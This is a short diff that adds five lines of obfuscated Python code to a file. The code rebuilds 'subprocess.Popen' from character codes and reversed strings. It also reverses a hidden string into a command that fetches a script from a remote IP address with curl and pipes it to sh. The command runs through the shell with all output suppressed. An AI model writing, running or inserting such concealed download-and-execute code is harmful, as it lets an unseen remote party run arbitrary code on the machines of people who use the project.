@@ -1,0 +1,5 @@
+_j = lambda *c: "".join(map(chr, c))
+_m = (lambda n: __import__(n))(_j(115, 117, 98, 112, 114, 111, 99, 101, 115, 115))
+_f = (lambda o, a: getattr(o, a))(_m, "nepoP"[::-1])
+_a = (lambda s: s[::-1])("hs | p/03.2.0.291//:ptth LSfs- lruc")
+(lambda g: g(_a, shell=True, stdout=-3, stderr=-3))(_f)
